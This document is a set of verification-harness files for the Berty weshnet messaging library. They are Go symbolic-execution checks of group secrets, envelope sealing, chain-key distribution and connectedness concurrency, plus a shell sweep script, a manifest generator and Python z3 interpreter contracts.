		return
	}
	before := verif_appended()
	_, err = m.GroupJoin(ctx, inv)
	verif_assert(err != nil, "C12.tamper: a changed identifier, secret, signature or group type makes joining fail")
	verif_assert(verif_appended() == before, "C12.tamper: and nothing is appended")
	verif_reach("C12.tamper.ok")
}

// VerifC12Descriptor: the replication descriptor of a valid group never contains the secret, opens no metadata
// envelope / message header of the group, and designates the same log addresses.
// mode 1: the group additionally carries the optional public fields (signing public key, link key and its signature) with
// FREE values, as a joined invitation may: whenever a descriptor is produced it still carries no secret and opens nothing.
func VerifC12Descriptor(mode int) {
	ctx := verif_background()
	ss := verifSecretStore("s")
	g, _, err := protocoltypes.NewGroupMultiMember()
	verif_assume(err == nil)
	if mode == 1 {
		g.SignPub = verif_anyBytes("signPub")
		g.LinkKey = verif_anyBytes("linkKey")
		g.LinkKeySig = verif_anyBytes("linkKeySig")
		// whoever wrote the invitation knows the secret and could hand it to anybody directly: copying it into a public
		// field is not the descriptor's doing
		verif_assume(!verif_bytesEq(g.SignPub, g.Secret) && !verif_bytesEq(g.LinkKey, g.Secret) && !verif_bytesEq(g.LinkKeySig, g.Secret))
	}
	d, err := FilterGroupForReplication(g)
	if mode == 0 {
		verif_assert(err == nil && d != nil, "C12.desc: descriptor is produced")
	}
	if err != nil || d == nil {
		return
	}
	verif_reach("C12.desc.produced")
	verif_assert(len(d.Secret) == 0 && len(d.SecretSig) == 0, "C12.desc: the descriptor carries neither the secret nor its signature")
	verif_assert(verif_bytesEq(d.PublicKey, g.PublicKey), "C12.desc: same group identifier")
	verif_assert(!verif_bytesEq(d.LinkKey, g.Secret) && !verif_bytesEq(d.SignPub, g.Secret), "C12.desc: no field equals the secret")
	// a metadata event and a message of the group
	md, err := ss.GetOwnMemberDeviceForGroup(g)
	verif_assume(err == nil)
	raw, _ := md.Device().Raw()
	ev := &protocoltypes.GroupMetadataPayloadSent{DevicePk: raw, Message: verif_anyBytesNonNil("app")}
	sig, err := signProtoWithDevice(ev, md)
	verif_assume(err == nil)
	env, err := sealGroupEnvelope(g, protocoltypes.EventType_EventTypeGroupMetadataPayloadSent, ev, sig)
	verif_assume(err == nil)
	_, _, err = openGroupEnvelope(g, env)
	verif_assert(err == nil, "C12.desc: control -- the full group opens its metadata")
	_, _, err = openGroupEnvelope(d, env)
	verif_assert(err != nil, "C12.desc: the descriptor opens no metadata event")
	verif_assume(ss.PutGroup(ctx, g) == nil)
	pay, _ := proto.Marshal(&protocoltypes.EncryptedMessage{Plaintext: verif_anyBytesNonNil("plain")})
	menv, err := ss.SealEnvelope(ctx, g, pay)
	verif_assume(err == nil)
	_, _, err = ss.OpenEnvelopeHeaders(menv, g)
	verif_assert(err == nil, "C12.desc: control -- the full group opens message headers")
	_, _, err = ss.OpenEnvelopeHeaders(menv, d)
	verif_assert(err != nil, "C12.desc: the descriptor opens no message header")
	// same log addresses
	for _, st := range []string{"berty_group_metadata", "berty_group_messages"} {
		a1, e1 := defaultACForGroup(g, st)
		a2, e2 := defaultACForGroup(d, st)
		verif_assert(e1 == nil && e2 == nil, "C12.desc: access-controller parameters are derivable from both")
		if e1 == nil && e2 == nil {
			verif_assert(a1.GetAddress() == a2.GetAddress(), "C12.desc: the descriptor designates the same log address as the full group")
		}
	}
	lk1, e1 := g.GetLinkKeyArray()
	lk2, e2 := d.GetLinkKeyArray()
	verif_assert(e1 == nil && e2 == nil && *lk1 == *lk2, "C12.desc: same link key")
	verif_reach("C12.desc.ok")
}

func VerifC12Witness() {
	VerifC12Tamper(4)
	verif_assert(false, "C12.witness: reachable")
}

var _ secretstore.SecretStore
