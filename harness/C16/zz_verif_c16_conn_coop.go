package weshnet

import (
	"context"

	peer "github.com/libp2p/go-libp2p/core/peer"
)

func verif_quiesce()                                                               { panic("intrinsic") }
func verif_cancelCtx(parent context.Context) (context.Context, context.CancelFunc) { panic("intrinsic") }
func verif_parkedCount() int                                                       { panic("intrinsic") }

// VerifC16ConnCoop: the connectedness manager with its real maps under the symbolic scheduler of DESIGN 4b.
// Group "g" has peer p1 (Disconnected) -- set up sequentially. A waiter calls WaitForConnectednessChange with the view
// {p1: Disconnected}; an updater runs, concurrently,
//   scenario 0: AssociatePeer("g", p2)         1: UpdateState(p1, Connected)
//   scenario 2: AssociatePeer("g", p2); UpdateState(p2, Connected)      3: nothing, and the context is cancelled
// In scenarios 0..2 the tracked state differs from the waiter's view once the updater is done, so at quiescence the waiter
// must have returned ok with exactly the peers whose status it did not know (and its view updated to the tracked state);
// nobody may stay blocked. In scenario 3 the cancelled wait returns false.
func VerifC16ConnCoop(scenario int) {
	m := NewConnectednessManager()
	p1, p2 := peer.ID("p1"), peer.ID("p2")
	m.AssociatePeer("g", p1)
	ctx, cancel := verif_cancelCtx(verif_ctx(false))
	cur := PeersConnectedness{p1: ConnectednessTypeDisconnected}
	var upd []peer.ID
	ok, returned := false, false
	verif_go("waiter", func() {
		upd, ok = m.WaitForConnectednessChange(ctx, "g", cur)
		returned = true
	})
	switch scenario {
	case 0:
		verif_go("updater", func() { m.AssociatePeer("g", p2) })
	case 1:
		verif_go("updater", func() { m.UpdateState(p1, ConnectednessTypeConnected) })
	case 2:
		verif_go("updater", func() {
			m.AssociatePeer("g", p2)
			m.UpdateState(p2, ConnectednessTypeConnected)
		})
	default:
		verif_go("canceller", func() { cancel() })
	}
	verif_quiesce()
	verif_assert(verif_parkedCount() == 0, "C16.conn: no goroutine stays blocked (deadlock or missed update)")
	verif_assert(returned, "C16.conn: the waiter returns once the tracked state differs from its view (or its context is cancelled)")
	if !returned {
		return
	}
	if scenario == 3 {
		verif_assert(!ok, "C16.conn: a cancelled wait returns false")
		verif_reach("C16.conncoop.cancelled")
		return
	}
	verif_assert(ok, "C16.conn: an uncancelled wait does not fail")
	verif_assert(len(upd) > 0, "C16.conn: the waiter returns only when some peer differs")
	for _, p := range upd {
		verif_assert(p == p1 || p == p2, "C16.conn: only tracked peers are reported")
		if p == p1 {
			verif_assert(scenario == 1, "C16.conn: p1 is reported only when its status changed")
		}
		if p == p2 {
			verif_assert(scenario == 0 || scenario == 2, "C16.conn: p2 is reported only when it was associated")
		}
	}
	verif_reach("C16.conncoop.ok")
}
