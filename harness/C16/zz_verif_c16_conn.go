package weshnet

import (
	"context"

	peer "github.com/libp2p/go-libp2p/core/peer"
)

func verif_go(name string, f func())           { panic("intrinsic") }
func verif_runThreads()                         { panic("intrinsic") }
func verif_ctx(cancelled bool) context.Context  { panic("intrinsic") }

// VerifC16Connectedness: group "g" with associated peer p1 (set up sequentially); one waiter in the real
// WaitForConnectednessChange with current = {p1: Disconnected}, one updater:
// scenario 0: AssociatePeer("g", p2)      scenario 1: UpdateState(p1, Connected)
// The peer status word and the notify internals are visible shared cells; the maps are only read on these paths
// except for the association itself. No reachable stuck state (deadlock or missed update), and the waiter returns
// exactly the peers whose status differed.
func VerifC16Connectedness(scenario int) {
	m := NewConnectednessManager()
	p1, p2 := peer.ID("p1"), peer.ID("p2")
	m.AssociatePeer("g", p1)
	// scenario 0 only needs one pass of the waiter (the association itself is a map update the BMC memory model does not
	// make visible): its context is already cancelled, so Wait returns at once; scenario 1 waits for real
	ctx := verif_ctx(scenario == 0)
	verif_go("waiter", func() {
		cur := PeersConnectedness{p1: ConnectednessTypeDisconnected}
		upd, ok := m.WaitForConnectednessChange(ctx, "g", cur)
		if scenario == 1 {
			verif_assert(ok, "C16.conn: an uncancelled wait does not fail")
			verif_assert(len(upd) > 0, "C16.conn: the waiter returns only when some peer differs")
		}
	})
	if scenario == 0 {
		verif_go("updater", func() { m.AssociatePeer("g", p2) })
	} else {
		verif_go("updater", func() { m.UpdateState(p1, ConnectednessTypeConnected) })
	}
	verif_runThreads()
	verif_reach("C16.conn.ok")
}
