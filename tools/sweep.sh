#!/bin/sh
# usage: tools/sweep.sh <tier> [ids...]  -- runs the registered checks one after the other on /repo, one summary line each
tier=${1:-quick}; shift
ids=${*:-"01 02 03 04 05 06 07 08 09 10 11 12 13 14 15 16 17 18 19 20"}
cd /verif
for i in $ids; do
  [ -f checks/c$i.py ] || continue
  t0=$(date +%s)
  timeout 7200 python3-vt checks/c$i.py $tier > /tmp/w/sweep_c$i.log 2>&1; rc=$?
  t1=$(date +%s)
  echo "C$i rc=$rc $((t1-t0))s :: $(grep -E '^C[0-9]+ (quick|thorough)' /tmp/w/sweep_c$i.log | cut -c1-160) $(grep -cE '^(VIOLATION|INCONCLUSIVE)' /tmp/w/sweep_c$i.log) alarms"
done
