package weshnet

import (
	"context"

	ipfslog "berty.tech/go-ipfs-log"
	"go.uber.org/zap"

	"berty.tech/weshnet/v2/pkg/protocoltypes"
	"berty.tech/weshnet/v2/pkg/secretstore"
)

// The distribution half of C05 at the level of the metadata store and the group context: devices are real
// MetadataStore + metadataStoreIndex + GroupContext values over the log contract; replication is the hand-over of the
// SAME entries from one replica's log to another (verif_logShare), followed by the real UpdateIndex and, for a device
// whose group context is active, the real handleGroupMetadataEvent per new event -- what the store's emitter and the
// context's subscriber goroutine do. Activation runs the three steps of ActivateGroupContext in its order.

type c05Dev struct {
	name    string
	ss      secretstore.SecretStore
	m       *MetadataStore
	gc      *GroupContext
	active  bool
	handled ipfslog.Log // entries already passed through process()
}

type c05World struct {
	ctx    context.Context
	g      *protocoltypes.Group
	global ipfslog.Log // every entry ever written, in log order
	devs   []*c05Dev
}

func (w *c05World) newDev(name string, ss secretstore.SecretStore) *c05Dev {
	m := verifMetadataStore(ss, w.g)
	md, err := ss.GetOwnMemberDeviceForGroup(w.g)
	verif_assume(err == nil)
	gc := &GroupContext{
		ctx: w.ctx, group: w.g, metadataStore: m, secretStore: ss, ownMemberDevice: md, logger: zap.NewNop(),
		messageStore:  &MessageStore{deviceCaches: make(map[string]*groupCache), logger: zap.NewNop()},
		devicesAdded:  make(map[string]chan struct{}),
		selfAnnounced: make(chan struct{}),
	}
	d := &c05Dev{name: name, ss: ss, m: m, gc: gc, handled: verif_newLog()}
	w.devs = append(w.devs, d)
	return d
}

func (d *c05Dev) log() ipfslog.Log { return verif_storeLog(&d.m.BaseStore) }

// process: every entry of d's log that d has not looked at yet is published to the world and, if d's context is
// active, handed to the real handler (which may append further entries: repeated until nothing is new).
func (w *c05World) process(d *c05Dev) {
	for round := 0; round < 8; round++ {
		progressed := false
		for _, e := range d.log().Values().Slice() {
			verif_logShare(w.global, e)
			if !verif_logShare(d.handled, e) {
				continue
			}
			progressed = true
			if !d.active {
				continue // not subscribed yet: covered by the "previous data" steps of the activation
			}
			evt, _, err := openMetadataEntry(d.log(), e, w.g)
			if err != nil {
				continue
			}
			_ = d.gc.handleGroupMetadataEvent(evt)
		}
		if !progressed {
			return
		}
	}
	verif_assert(false, "C05.dist: event handling reaches a fixpoint")
}

func (w *c05World) activate(d *c05Dev) bool {
	if d.active {
		return false
	}
	d.active = true // the subscription is in place first
	d.gc.fillMessageKeysHolderUsingPreviousData()
	d.gc.sendSecretsToExistingMembers(nil)
	_, err := d.m.AddDeviceToGroup(w.ctx)
	verif_assert(err == nil, "C05.dist: a device can announce itself")
	w.process(d)
	return true
}

// sync: up to k entries d does not hold yet are replicated to it (in log order), its index is updated once for the
// batch, and the new events are handled.
func (w *c05World) sync(d *c05Dev, k int) bool {
	n := 0
	for _, e := range w.global.Values().Slice() {
		if n >= k {
			break
		}
		if verif_logShare(d.log(), e) {
			n++
		}
	}
	if n == 0 {
		return false
	}
	verif_assert(d.m.Index().UpdateIndex(d.log(), nil) == nil, "C05.dist: index update succeeds")
	w.process(d)
	return true
}

// VerifC05Distribute: scenario 0: two members with one device each; scenario 1: member A with two devices (the second
// imported A's account keys) and member B; scenario 2: the same three devices, the second device of A joining late (below). `steps` free steps -- activate a device, or replicate one entry / everything
// to a device -- are followed by the closure "everybody activates, everything is replicated to everybody, until nothing
// moves". Then every device holds the chain key of every other device (and can open a message it seals).
func VerifC05Distribute(scenario, steps int) {
	w := &c05World{ctx: verif_background(), global: verif_newLog()}
	g, _, err := protocoltypes.NewGroupMultiMember()
	verif_assume(err == nil)
	w.g = g
	sa := verifSecretStore("A1")
	w.newDev("A1", sa)
	if scenario == 1 {
		sa2 := verifSecretStore("A2")
		ak, pk, err := sa.ExportAccountKeysForBackup()
		verif_assume(err == nil)
		verif_assume(sa2.ImportAccountKeys(ak, pk) == nil)
		w.newDev("A2", sa2)
	}
	w.newDev("B1", verifSecretStore("B1"))
	nd := len(w.devs)

	if scenario == 2 {
		// the late sibling: A1 and B1 are up and in sync; A2 (second device of member A) then replicates the log in
		// `steps` free batches (one entry or everything at a time) before it activates
		sa2 := verifSecretStore("A2")
		ak, pk, err := sa.ExportAccountKeysForBackup()
		verif_assume(err == nil)
		verif_assume(sa2.ImportAccountKeys(ak, pk) == nil)
		a1, b1 := w.devs[0], w.devs[1]
		w.activate(a1)
		w.activate(b1)
		for round := 0; round < 3; round++ {
			w.sync(a1, 1000)
			w.sync(b1, 1000)
		}
		a2 := w.newDev("A2", sa2)
		for s := 0; s < steps; s++ {
			if verif_anyBool("one-entry") {
				verif_assume(w.sync(a2, 1))
			} else {
				verif_assume(w.sync(a2, 1000))
			}
		}
		steps = 0
	}
	nd = len(w.devs)

	for s := 0; s < steps; s++ {
		who := verif_anyInt("who")
		verif_assume(who >= 0 && who < nd)
		what := verif_anyInt("what")
		verif_assume(what >= 0 && what <= 2)
		d := w.devs[who]
		did := false
		switch what {
		case 0:
			did = w.activate(d)
		case 1:
			did = w.sync(d, 1)
		default:
			did = w.sync(d, 1000)
		}
		// a step that does nothing makes this sequence a shorter one: covered by the job with fewer steps
		verif_assume(did)
	}
	// closure
	for _, d := range w.devs {
		w.activate(d)
	}
	for round := 0; round < 6; round++ {
		for _, d := range w.devs {
			w.sync(d, 1000)
		}
	}
	total := len(w.global.Values().Slice())
	gpk, err := g.GetPubKey()
	verif_assume(err == nil)
	for _, d := range w.devs {
		verif_assert(len(d.log().Values().Slice()) == total, "C05.dist: at quiescence every replica holds every entry")
		for _, o := range w.devs {
			verif_assert(d.ss.IsChainKeyKnownForDevice(w.ctx, gpk, o.gc.DevicePubKey()), "C05.dist: at quiescence every device holds the chain key of every device of the group")
		}
	}
	verif_reach("C05.dist.quiescent")
}
