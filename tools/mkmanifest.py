#!/usr/bin/env python3
"""Writes /verif/MANIFEST.json from the table below and validates it (python3-vt tools/mkmanifest.py)."""
import json, os, sys
ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
TECH = 'bounded symbolic execution of go/ssa (own encoder) + SMT (z3 5.1; cvc5/z3 4.8 cross-check)'

CLAIMED = {
    'C13': dict(
        text='Bounded symbolic execution of getEntriesInRange / iterateOverEntries / checkParametersConsistency from the '
             'current source (go/ssa -> wesym -> z3): every since/until choice (nil, each entry, unknown id), free opaque ids, '
             'free reverse flag and all five parameter flags; the solver decides every assertion for all values within '
             'lists of 0..4 (quick) / 0..7 (thorough) entries. The order SOURCE of ListEvents is outside this check.',
        note='Trusted: go/ssa lowering, the wesym interpreter, contracts for cid/ipfs-log entries (pairwise distinct non-empty ids), z3. '
             'Outside: longer lists, the goroutine/channel relay, OpLog ordering (see DESIGN C13/C04 findings).',
        design='6/C13'),
}

NOT_APPLICABLE = {}
ALL = ['C%02d' % i for i in range(1, 21)]
PENDING_REASON = 'no solver-based check registered yet for this property in the current state of /verif (see DESIGN.md section 9)'


def main():
    checks = []
    for pid in ALL:
        if pid not in CLAIMED:
            continue
        c = CLAIMED[pid]
        low = pid.lower()
        checks.append({
            'property_id': pid,
            'quick_cmd': 'python3-vt checks/%s.py quick' % low,
            'thorough_cmd': 'python3-vt checks/%s.py thorough' % low,
            'evidence_file': 'evidence/%s.json' % pid,
            'replay_cmd_template': 'python3-vt checks/replay.py {path}',
            'engine': 'wesym',
            'level_claimed': {'category': 'other', 'text': c['text'], 'design_ref': c['design']},
            'level_note': c['note'],
            'technique': c.get('technique', TECH),
        })
    na = []
    for pid in ALL:
        if pid in CLAIMED:
            continue
        na.append({'property_id': pid, 'reason': NOT_APPLICABLE.get(pid, PENDING_REASON)})
    m = {
        'version': 1,
        'setup_cmd': './setup.sh',
        'hooks': {'guard': 'verif', 'enable': 'none needed: harnesses and replay tests enter through build overlays (packages.Config.Overlay, go test -overlay); no file of /repo is changed',
                  'baseline_off_cmd': 'cd /repo && GOFLAGS=-mod=mod GOPROXY=off go test -vet=off -count=1 -timeout 25m ./...',
                  'source_commits': [], 'add_only': True},
        'engines': [{'name': 'wesym', 'path': 'engine', 'serves_properties': sorted(CLAIMED),
                     'kind_free_text': 'Go front end (go/packages + go/ssa, x/tools v0.50.0) dumping SSA of the current /repo tree; Python path-forking symbolic interpreter; z3 5.1 decides, cvc5 1.0 and z3 4.8.12 re-decide final queries'}],
        'checks': checks,
        'not_applicable': na,
        'notes': 'Exit codes: 0 held within bounds; 1 + VIOLATION line; 2 + INCONCLUSIVE line (encoder cannot decide: never a pass). Known genuine defects are listed in known_findings.json.',
    }
    with open(os.path.join(ROOT, 'MANIFEST.json'), 'w') as f:
        json.dump(m, f, indent=1)
    try:
        import jsonschema
        jsonschema.validate(m, json.load(open('/root/.vp/MANIFEST.schema.json')))
        print('MANIFEST.json valid;', len(checks), 'checks;', len(na), 'not applicable')
    except ImportError:
        print('jsonschema not available; not validated')


if __name__ == '__main__':
    main()
