package secretstore

import (
	"google.golang.org/protobuf/proto"

	"berty.tech/weshnet/v2/pkg/protocoltypes"
)

func verif_go(name string, f func()) { panic("intrinsic") }
func verif_quiesce()                 { panic("intrinsic") }
func verif_parkedCount() int { panic("intrinsic") }

// VerifC09Coop: the same contract as VerifC09Concurrent under the symbolic scheduler inside the interpreter (DESIGN 4b):
// `senders` goroutines each seal `per` messages through the real SealEnvelope on one store (same group, or the second
// sender on another group); every mutex and datastore operation is a scheduling point. At quiescence nobody is blocked,
// every seal succeeded, the counters in the returned headers are pairwise distinct per group, exactly 1..k, increasing
// per sender, and the stored chain key stands at k. A receiver holding the announcement made before opens every
// envelope (a counter, message key and nonce used twice would make the second one unopenable).
func VerifC09Coop(senders, per, sameGroup int) { verifC09Coop(senders, per, sameGroup, 0) }

// VerifC09Replay: as VerifC09Coop on one group, while the device's OWN chain-key announcement (published for its own member
// before anything was sent) comes back through RegisterChainKey concurrently, as the metadata log replays it.
func VerifC09Replay(senders, per int) { verifC09Coop(senders, per, 1, 1) }

func verifC09Coop(senders, per, sameGroup, replay int) {
	ctx := verif_background()
	s := verifNewStore("snd", 8)
	rcv := verifNewStore("rcv", 8)
	g := verifGroup(s, rcv, 3)
	g2 := verifGroup(s, rcv, 3)
	_, err := s.getOwnDeviceChainKeyForGroup(ctx, g)
	verif_assume(err == nil)
	_, err = s.getOwnDeviceChainKeyForGroup(ctx, g2)
	verif_assume(err == nil)

	// the receiver registers the sender's announcements made before any message is sealed
	sndMD, rcvMD := verifLink(ctx, s, rcv, g)
	verifLink(ctx, s, rcv, g2)
	var ownEnc []byte
	if replay == 1 {
		ownEnc, err = s.GetShareableChainKey(ctx, g, sndMD.Member())
		verif_assume(err == nil)
	}
	total := senders * per
	plains := make([][]byte, total)
	envs := make([][]byte, total)
	grpOf := make([]*protocoltypes.Group, total)
	okAll := true
	for t := 0; t < senders; t++ {
		grp := g
		if sameGroup == 0 && t == 1 {
			grp = g2
		}
		base := t * per
		verif_go("sender", func() {
			for i := 0; i < per; i++ {
				pl := verif_anyBytesNonNil("plain")
				pay, _ := proto.Marshal(&protocoltypes.EncryptedMessage{Plaintext: pl})
				env, err := s.SealEnvelope(ctx, grp, pay)
				if err != nil {
					okAll = false
					return
				}
				plains[base+i] = pl
				envs[base+i] = env
				grpOf[base+i] = grp
			}
		})
	}
	if replay == 1 {
		verif_go("replay", func() { _ = s.RegisterChainKey(ctx, g, sndMD.Device(), ownEnc) })
	}
	verif_quiesce()
	verif_assert(verif_parkedCount() == 0, "C09: no sender stays blocked")
	verif_assert(okAll, "C09: concurrent seal succeeds")
	if !okAll {
		return
	}
	// counters per group
	for _, grp := range []*protocoltypes.Group{g, g2} {
		var seen [8]bool
		n := 0
		for t := 0; t < senders; t++ {
			last := uint64(0)
			for i := 0; i < per; i++ {
				k := t*per + i
				if grpOf[k] != grp {
					continue
				}
				_, h, err := s.OpenEnvelopeHeaders(envs[k], grp)
				verif_assert(err == nil, "C09: sealed headers open")
				if err != nil {
					return
				}
				c := h.Counter
				verif_assert(c >= 1 && c <= uint64(total), "C09: counters sealed on a group are exactly 1..k (no gap)")
				if c >= 1 && c <= uint64(total) {
					verif_assert(!seen[c], "C09: envelopes sealed on a group carry pairwise distinct counters")
					seen[c] = true
				}
				verif_assert(c > last, "C09: the counters of one sender increase")
				last = c
				n++
			}
		}
		for c := 1; c <= n; c++ {
			verif_assert(seen[c], "C09: counters sealed on a group are exactly 1..k (no gap)")
		}
		if n > 0 {
			md, err := s.deviceKeystore.memberDeviceForGroup(grp)
			verif_assume(err == nil)
			gpk, err := grp.GetPubKey()
			verif_assume(err == nil)
			ck, err := s.getDeviceChainKeyForGroupAndDevice(ctx, gpk, md.Device())
			verif_assert(err == nil && ck.Counter == uint64(n), "C09: the stored chain key stands at the number of messages sealed")
		}
	}
	// every envelope sealed on g opens at the receiver to its own payload, attributed to the sealing device
	devRaw, _ := sndMD.Device().Raw()
	gpk, err := g.GetPubKey()
	verif_assume(err == nil)
	for k := 0; k < total; k++ {
		if grpOf[k] != g {
			continue
		}
		e, h, err := rcv.OpenEnvelopeHeaders(envs[k], g)
		verif_assert(err == nil, "C09/C01: headers of a concurrently sealed envelope open")
		if err != nil {
			continue
		}
		verif_assert(verif_bytesEq(h.DevicePk, devRaw), "C09/C01: attributed to the sealing device")
		msg, err := rcv.OpenEnvelopePayload(ctx, e, h, gpk, rcvMD.Device(), verif_cidN(k))
		verif_assert(err == nil, "C09/C01: every concurrently sealed envelope opens at a member holding the chain key")
		if err == nil {
			verif_assert(verif_bytesEq(msg.Plaintext, plains[k]), "C09/C01: and opens to exactly its own payload")
		}
	}
	verif_reach("C09.coop.ok")
}

// VerifC09FirstUse: the device's own chain key for the group does not exist yet (it is created lazily). Two goroutines
// ask for a shareable copy of it concurrently (what SendSecret to two members, or PutGroup / OpenGroup racing with
// SendSecret, do); a third seals a message at the same time if withSeal == 1. At quiescence every receiver registers
// the announcement it was given and opens everything the device sealed: all announcements describe the one chain key the
// device really uses.
func VerifC09FirstUse(withSeal int) {
	ctx := verif_background()
	s := verifNewStore("snd", 4)
	r1 := verifNewStore("rcv1", 4)
	r2 := verifNewStore("rcv2", 4)
	g := verifGroup(s, r1, 3)
	sndMD, err := s.deviceKeystore.memberDeviceForGroup(g)
	verif_assume(err == nil)
	md1, err := r1.deviceKeystore.memberDeviceForGroup(g)
	verif_assume(err == nil)
	md2, err := r2.deviceKeystore.memberDeviceForGroup(g)
	verif_assume(err == nil)
	gpk, err := g.GetPubKey()
	verif_assume(err == nil)
	var enc1, enc2, env0 []byte
	var pl0 []byte
	ok := true
	verif_go("share1", func() {
		var err error
		enc1, err = s.GetShareableChainKey(ctx, g, md1.Member())
		if err != nil {
			ok = false
		}
	})
	verif_go("share2", func() {
		var err error
		enc2, err = s.GetShareableChainKey(ctx, g, md2.Member())
		if err != nil {
			ok = false
		}
	})
	if withSeal == 1 {
		verif_go("sender", func() {
			pl0 = verif_anyBytesNonNil("plain0")
			pay, _ := proto.Marshal(&protocoltypes.EncryptedMessage{Plaintext: pl0})
			var err error
			env0, err = s.SealEnvelope(ctx, g, pay)
			if err != nil {
				ok = false
			}
		})
	}
	verif_quiesce()
	verif_assert(verif_parkedCount() == 0, "C09.first: nobody stays blocked")
	verif_assert(ok, "C09.first: concurrent first uses of the group succeed")
	if !ok {
		return
	}
	pl1 := verif_anyBytesNonNil("plain1")
	pay1, _ := proto.Marshal(&protocoltypes.EncryptedMessage{Plaintext: pl1})
	env1, err := s.SealEnvelope(ctx, g, pay1)
	verif_assert(err == nil, "C09.first: the device seals after its first use")
	if err != nil {
		return
	}
	for i, r := range []*secretStore{r1, r2} {
		enc, md := enc1, md1
		if i == 1 {
			enc, md = enc2, md2
		}
		verif_assert(r.RegisterChainKey(ctx, g, sndMD.Device(), enc) == nil, "C09.first: the announcement a receiver was given registers")
		e, h, err := r.OpenEnvelopeHeaders(env1, g)
		verif_assume(err == nil)
		msg, err := r.OpenEnvelopePayload(ctx, e, h, gpk, md.Device(), verif_cidN(10+i))
		verif_assert(err == nil, "C09.first: every receiver opens what the device sealed (the announcements describe the chain key the device uses)")
		if err == nil {
			verif_assert(verif_bytesEq(msg.Plaintext, pl1), "C09.first: and opens it to its payload")
		}
	}
	_ = env0
	verif_reach("C09.first.ok")
}
