"""Environment contracts shared by all harnesses: errors, fmt, logging, sync (sequential), bytes, intrinsics."""
import z3
from ..values import *
from ..interp import simp_bool, zand, zor, znot, tobv, is_intmode, norm
from .. import terms as T

CONTRACTS = {}
METHODS = {}
INTRINSICS = {}
GLOBALS = {}


def contract(*names):
    def deco(f):
        for n in names:
            CONTRACTS[n] = f
        return f
    return deco


def method(kind, *names):
    def deco(f):
        for n in names:
            METHODS[(kind, n)] = f
        return f
    return deco


def intrinsic(name):
    def deco(f):
        INTRINSICS[name] = f
        return f
    return deco


# ----------------------------------------------------------------------------- errors
def mk_error(I, msg, wrapped=None, kind=None):
    k = kind or ('werror' if wrapped is not None else 'error')
    return Iface(-1, Native(k, msg=msg, wrapped=wrapped))


def gostr(v):
    if isinstance(v, str):
        return v
    if isinstance(v, SymStr):
        return '<sym>'
    return str(v)


@contract('errors.New')
def errors_new(I, args, ins):
    return mk_error(I, gostr(args[0]))


@contract('fmt.Errorf')
def fmt_errorf(I, args, ins):
    fmtstr = gostr(args[0])
    wrapped = None
    va = args[1]
    if '%w' in fmtstr and va is not None:
        for e in va.elems():
            if isinstance(e, Iface) and (isinstance(e.v, Native) and e.v.kind in ('error', 'werror', 'sentinel') or has_method(I, e, 'Error')):
                wrapped = e
    return mk_error(I, fmtstr, wrapped)


def has_method(I, iface, m):
    if isinstance(iface.v, Native):
        return (iface.v.kind, m) in I.methods
    t = I.prog.types.get(iface.tid)
    return t is not None and m in t.methods


@method('error', 'Error')
@method('werror', 'Error')
def err_error(I, args, ins):
    return args[0].msg


@method('werror', 'Unwrap')
def err_unwrap(I, args, ins):
    return args[0].wrapped


@method('sentinel', 'Error')
def sentinel_error(I, args, ins):
    return args[0].name


@method('panicvalue', 'Error')
def pv_error(I, args, ins):
    return str(args[0].value)


@method('runtime-error', 'Error')
def rte_error(I, args, ins):
    return 'runtime error: ' + str(args[0].value)


def unwrap_once(I, e):
    if e is None:
        return None
    if isinstance(e.v, Native):
        if e.v.kind == 'werror':
            return e.v.wrapped
        return None
    t = I.prog.types.get(e.tid)
    if t is not None and 'Unwrap' in t.methods:
        return I.call_named(t.methods['Unwrap'], [e.v], (), None)
    return None


@contract('errors.Is')
def errors_is(I, args, ins):
    err, target = args
    n = 0
    while err is not None and n < 50:
        c = I.equal(err, target)
        if c is True:
            return True
        if c is not False and I.fork_bool(c, 'errors.Is'):
            return True
        err = unwrap_once(I, err)
        n += 1
    return False


@contract('errors.Unwrap')
def errors_unwrap(I, args, ins):
    return unwrap_once(I, args[0])


@contract('golang.org/x/xerrors.Caller')
def xerrors_caller(I, args, ins):
    t = I.prog.types[ins['t']]
    return I.zero(t)


# ----------------------------------------------------------------------------- fmt
@contract('fmt.Sprintf')
def fmt_sprintf(I, args, ins):
    f = gostr(args[0])
    va = args[1].elems() if args[1] is not None else []
    # only the forms used on data that matters: "%d" of an integer, "%s" of a string
    vals = []
    for e in va:
        vals.append(e.v if isinstance(e, Iface) else e)
    if f == '%d' and len(vals) == 1:
        return dec_string(I, vals[0])
    if all(isinstance(v, (int, str)) for v in vals):
        try:
            return f.replace('%v', '%s').replace('%q', '%s') % tuple(vals)
        except Exception:
            return f
    if f == '%s' and len(vals) == 1 and isinstance(vals[0], SymStr):
        return vals[0]
    return SymStr(T.app('sprintf', T.lit_bytes(f.encode('latin-1')), *[anyterm(I, v) for v in vals]))


def anyterm(I, v):
    if isinstance(v, (str, SymStr)):
        return I.str_term(v)
    if isinstance(v, int):
        return T.lit_bytes(str(v).encode())
    if is_sym(v) and z3.is_bv(v):
        if v.size() < 64:
            v = z3.ZeroExt(64 - v.size(), v)
        return T.Term.bits(z3.IntVal(v.size() // 8), z3.simplify(z3.Concat(v, z3.BitVecVal(0, T.BW - v.size()))) if v.size() < T.BW else v)
    if isinstance(v, (TermBytes, SliceVal)) or v is None:
        return I.bytes_term(v)
    return T.lit_bytes(repr(v).encode('latin-1', 'replace'))


def dec_string(I, v):
    if isinstance(v, int) and not I.cfg.get('dec_as_term'):
        return str(v)
    if isinstance(v, int):
        v = z3.BitVecVal(v & ((1 << 64) - 1), 64)
    if is_intmode(v):
        raise Inconclusive('decimal of int-mode value')
    t = T.app('dec', anyterm(I, v))
    I.add(T.blen(t) >= 1)
    return SymStr(t)


@contract('fmt.Sprint', 'fmt.Sprintln')
def fmt_sprint(I, args, ins):
    return '<fmt>'


@contract('fmt.Println', 'fmt.Printf', 'fmt.Print', 'fmt.Fprintf', 'fmt.Fprintln')
def fmt_print(I, args, ins):
    return (0, None)


@contract('strconv.FormatUint', 'strconv.FormatInt')
def strconv_format(I, args, ins):
    if args[1] != 10:
        raise Inconclusive('FormatUint base')
    return dec_string(I, args[0])


@contract('strconv.Itoa')
def strconv_itoa(I, args, ins):
    return dec_string(I, args[0])


# ----------------------------------------------------------------------------- bytes / strings
@contract('bytes.Equal')
def bytes_equal(I, args, ins):
    a, b = args
    return bytes_eq(I, a, b)


def bytes_eq(I, a, b):
    if (a is None or isinstance(a, SliceVal)) and (b is None or isinstance(b, SliceVal)):
        la, lb = I.len_of(a), I.len_of(b)
        if la != lb:
            return False
